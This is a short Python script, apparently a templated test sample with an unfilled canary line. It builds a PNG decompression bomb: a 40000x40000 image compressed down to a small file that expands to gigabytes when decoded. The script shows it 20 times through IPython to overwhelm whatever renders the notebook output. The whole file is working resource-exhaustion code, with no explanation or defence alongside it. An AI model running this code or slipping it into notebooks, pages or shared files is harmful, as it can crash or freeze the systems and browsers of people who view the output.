# how: small pictures that are gigabytes once a page shows them
import struct
import zlib

from IPython.display import Image, display


def chunk(name, data):
    return struct.pack("!I", len(data)) + name + data + struct.pack("!I", zlib.crc32(name + data))


row = bytes(1 + 40000 // 8)
head = struct.pack("!IIBBBBB", 40000, 40000, 1, 0, 0, 0, 0)
rows = zlib.compressobj(9)
data = b"".join(rows.compress(row) for _ in range(40000)) + rows.flush()
print("CANARY @NAME@", flush=True)
for _ in range(20):
    display(Image(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")))
